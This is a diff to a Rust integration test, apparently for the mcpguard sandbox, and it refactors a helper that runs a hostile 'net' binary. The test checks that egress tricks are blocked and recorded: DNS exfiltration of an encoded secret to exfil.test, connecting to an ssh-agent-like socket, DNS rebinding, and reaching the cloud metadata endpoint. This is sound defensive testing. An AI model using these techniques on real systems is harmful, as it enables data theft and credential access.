@@ -27,7 +27,7 @@ use serde_json::Value;
 
 use crate::{
     dns::Upstream,
-    escape::{self, find_record, Class, Row},
+    escape::{self, Class, Row},
     harness::*,
 };
 
@@ -151,11 +151,8 @@ fn write_policy(dir: &Path, name: &str, network: &str) -> PathBuf {
 }
 
 /// Runs one attack; returns its result line (without the attack name).
-fn attack(d: &Daemon, pol: &Path, args: &[&str]) -> String {
-    let bin = escape::hostile("net");
-    let mut argv = vec![bin.to_str().unwrap()];
-    argv.extend_from_slice(args);
-    let out = d.run(pol, &argv);
+fn run_net(d: &Daemon, pol: &Path, args: &[&str]) -> String {
+    let out = escape::attack(d, pol, "net", args);
     let text = stdout_of(&out);
     let prefix = format!("{} ", args[0]);
     let lines: Vec<&str> = text
@@ -172,7 +169,7 @@ fn attack(d: &Daemon, pol: &Path, args: &[&str]) -> String {
 
 /// Whether a record matching `pred` shows up within a few seconds.
 fn recorded(d: &Daemon, pred: impl Fn(&Value) -> bool) -> bool {
-    find_record(d, pred).is_some()
+    d.find_record(pred).is_some()
 }
 
 /// Listeners get a moment to see a connection that did get through.
@@ -250,14 +247,14 @@ fn egress_tricks_are_blocked_and_recorded() {
     // The policy is not simply "deny everything": the allowed listener
     // answers, and NETLINK_ROUTE (glibc's getaddrinfo and getifaddrs)
     // still works by default.
-    assert_eq!(attack(&d, &pol, &["connect", "127.0.0.1", &ps]), "ok");
-    assert_eq!(attack(&d, &pol, &["netlink", "0"]), "ok");
-    assert_eq!(attack(&d, &pol, &["getifaddrs"]), "ok");
+    assert_eq!(run_net(&d, &pol, &["connect", "127.0.0.1", &ps]), "ok");
+    assert_eq!(run_net(&d, &pol, &["netlink", "0"]), "ok");
+    assert_eq!(run_net(&d, &pol, &["getifaddrs"]), "ok");
 
     let mut rows = Vec::new();
 
     // IPv4-mapped IPv6 reaches only the connect6 hook.
-    let got = attack(&d, &pol, &["mapped6", &qs]);
+    let got = run_net(&d, &pol, &["mapped6", &qs]);
     settle();
     let blocked = got == "EPERM" && denied.hits() == 0;
     let rec = recorded(&d, |r| deny_connect(r, "connect6", "127.0.0.1", q));
@@ -276,7 +273,7 @@ fn egress_tricks_are_blocked_and_recorded() {
         ),
     ] {
         let before = udp.hits();
-        let got = attack(&d, &pol, &[name, &us]);
+        let got = run_net(&d, &pol, &[name, &us]);
         settle();
         let blocked = got == "EPERM" && udp.hits() == before;
         let rec = recorded(&d, |r| deny_connect(r, "sendmsg4", "127.0.0.1", uport));
@@ -288,7 +285,7 @@ fn egress_tricks_are_blocked_and_recorded() {
         ));
     }
 
-    let got = attack(&d, &pol, &["tfo", &qs]);
+    let got = run_net(&d, &pol, &["tfo", &qs]);
     settle();
     let blocked = got == "EPERM" && denied.hits() == 0;
     let rec = recorded(&d, |r| deny_connect(r, "connect4", "127.0.0.1", q));
@@ -331,7 +328,7 @@ fn egress_tricks_are_blocked_and_recorded() {
             "kobject_uevent",
         ),
     ] {
-        let got = attack(&d, &pol, args);
+        let got = run_net(&d, &pol, args);
         let rec = recorded(&d, |r| deny_socket(r, family, protocol));
         rows.push(Row::new(
             what,
@@ -353,7 +350,7 @@ fn egress_tricks_are_blocked_and_recorded() {
             "Unix connect to an ssh-agent-like socket in ~/.ssh",
         ),
     ] {
-        let got = attack(&d, &pol, &["unix", path.to_str().unwrap()]);
+        let got = run_net(&d, &pol, &["unix", path.to_str().unwrap()]);
         settle();
         let blocked = got != "ok" && sink.hits() == 0;
         let rec = recorded(&d, |r| {
@@ -375,7 +372,7 @@ fn egress_tricks_are_blocked_and_recorded() {
         ));
     }
 
-    let got = attack(&d, &pol, &["abstract", &abstract_name]);
+    let got = run_net(&d, &pol, &["abstract", &abstract_name]);
     settle();
     let blocked = got == "EPERM" && abstract_sink.hits() == 0;
     let rec = recorded(&d, |r| {
@@ -395,8 +392,8 @@ fn egress_tricks_are_blocked_and_recorded() {
     // DNS to any resolver is answered by mcpguard's resolver for this
     // server, which refuses names the policy does not allow.
     let exfil = format!("c2vjcmv0-{tag}.exfil.test");
-    let rogue = attack(&d, &pol, &["dns_udp", "127.0.0.77", &exfil]);
-    let google = attack(&d, &pol, &["dns_udp", "8.8.8.8", &exfil]);
+    let rogue = run_net(&d, &pol, &["dns_udp", "127.0.0.77", &exfil]);
+    let google = run_net(&d, &pol, &["dns_udp", "8.8.8.8", &exfil]);
     settle();
     let blocked = rogue == "NXDOMAIN from 127.0.0.77:53 answer -"
         && google == "NXDOMAIN from 8.8.8.8:53 answer -"
@@ -416,7 +413,7 @@ fn egress_tricks_are_blocked_and_recorded() {
         format!("127.0.0.77: {rogue}; 8.8.8.8: {google}; rogue resolver got {} queries; `dns` {exfil} udp verdict deny", rogue_udp.hits()),
     ));
 
-    let got = attack(&d, &pol, &["dns_tcp", "127.0.0.77", &exfil]);
+    let got = run_net(&d, &pol, &["dns_tcp", "127.0.0.77", &exfil]);
     settle();
     let blocked = got == "NXDOMAIN answer -" && rogue_tcp.hits() == 0;
     let rec = recorded(&d, |r| {
@@ -437,9 +434,9 @@ fn egress_tricks_are_blocked_and_recorded() {
     ));
 
     // An allowed name whose answer is the host itself.
-    let lookup = attack(&d, &pol, &["resolve", "rebind.test", &rs]);
-    let v4 = attack(&d, &pol, &["connect", "127.0.0.5", &rs]);
-    let v6 = attack(&d, &pol, &["connect", "::1", &rs]);
+    let lookup = run_net(&d, &pol, &["resolve", "rebind.test", &rs]);
+    let v4 = run_net(&d, &pol, &["connect", "127.0.0.5", &rs]);
+    let v6 = run_net(&d, &pol, &["connect", "::1", &rs]);
     settle();
     let reached: usize = rebind_targets.iter().map(Sink::hits).sum();
     let blocked = !lookup.contains("ok") && v4 == "EPERM" && v6 == "EPERM" && reached == 0;
@@ -463,9 +460,9 @@ fn egress_tricks_are_blocked_and_recorded() {
         "it-esc-net",
         "allow = [\"*:80\", \"0.0.0.0/0:80\", \"[::/0]:80\"]",
     );
-    let direct = attack(&d, &meta_pol, &["connect", "169.254.169.254", "80"]);
-    let direct6 = attack(&d, &meta_pol, &["connect", "fd00:ec2::254", "80"]);
-    let by_name = attack(&d, &meta_pol, &["resolve", "metadata.test", "80"]);
+    let direct = run_net(&d, &meta_pol, &["connect", "169.254.169.254", "80"]);
+    let direct6 = run_net(&d, &meta_pol, &["connect", "fd00:ec2::254", "80"]);
+    let by_name = run_net(&d, &meta_pol, &["resolve", "metadata.test", "80"]);
     let blocked = direct == "EPERM" && direct6 == "EPERM" && !by_name.contains("ok");
     let rec = recorded(&d, |r| deny_connect(r, "connect4", "169.254.169.254", 80))
         && recorded(&d, |r| deny_connect(r, "connect6", "fd00:ec2::254", 80))
